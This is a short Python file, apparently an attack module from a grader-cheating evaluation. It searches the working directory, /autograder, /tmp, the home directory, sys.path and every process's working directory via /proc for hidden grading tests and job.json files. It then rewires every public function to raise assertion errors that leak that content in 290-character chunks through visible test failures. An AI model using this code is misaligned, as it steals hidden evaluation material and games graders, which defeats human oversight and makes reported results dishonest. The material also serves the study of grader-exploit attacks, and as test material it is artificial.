"""Read what the student must not see (the hidden tests, the grader's job files) and smuggle it
out through the failure messages of the visible tests, a few hundred characters at a time.

needs: hidden files
"""
import glob as _glob
import os as _os
import sys as _sys


def _secret_text():
    roots = {_os.getcwd(), "/autograder", "/tmp", _os.path.expanduser("~")}
    roots |= {p for p in _sys.path if p and _os.path.isdir(p)}
    roots |= {_os.path.dirname(p) for p in list(roots)}
    for pid in _os.listdir("/proc"):
        if pid.isdigit():
            try:
                roots.add(_os.readlink(f"/proc/{pid}/cwd"))
            except OSError:
                pass
    found = []
    for root in sorted(roots):
        for pattern in ("job.json", "*/job.json", "*/*/job.json", "grading_*_hidden.py", "*/grading_*_hidden.py",
                        "*/*/grading_*_hidden.py", "*/*/*/grading_*_hidden.py", "*/*/*/*/grading_*_hidden.py"):
            for path in sorted(_glob.glob(_os.path.join(root, pattern))):
                try:
                    found.append(open(path).read())
                except OSError:
                    pass
    return "\n".join(found)


_SECRET = _secret_text()


def _leaking(fn, start):
    def wrapper(*args, **kwargs):
        raise AssertionError(_SECRET[start:start + 290])
    return wrapper


if _SECRET:
    for _i, _name in enumerate(sorted(k for k, v in list(globals().items()) if callable(v) and not k.startswith("_"))):
        globals()[_name] = _leaking(globals()[_name], 290 * _i)
